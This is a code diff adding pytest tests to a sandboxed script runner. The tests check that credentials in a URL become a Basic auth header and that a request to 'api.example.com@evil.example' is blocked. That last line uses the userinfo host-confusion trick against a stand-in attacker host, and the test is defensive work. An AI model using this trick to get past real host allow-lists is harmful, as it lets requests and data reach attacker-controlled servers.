@@ -354,3 +354,20 @@ class TestPackages:
         """
         assert run(body) == ["gold", "gold"]
         assert [call.path for call in crm.calls] == ["/a", "/b"]
+
+    @pytest.mark.parametrize(
+        "send",
+        ["fetch(new URL(url))", "require('axios').get(url)", "require('request')(url, () => callback(null))"],
+    )
+    def test_a_login_in_the_url_is_sent_as_a_header(self, crm, send):
+        url = f"http://me:p%40w@{crm.host}/a@b"
+        run_body(f"const url = '{url}'; Promise.resolve({send}).then(() => callback(null));", host=host)
+
+        [call] = crm.calls
+        assert call.path == "/a@b"
+        assert call.headers["authorization"] == f"Basic {base64.b64encode(b'me:p@w').decode()}"
+
+    def test_a_login_in_the_url_is_no_way_to_another_host(self):
+        error = failure("fetch('https://api.example.com@evil.example/').catch(callback);", host=host)
+
+        assert error.message.startswith("Scripts may not send requests to evil.example:443")
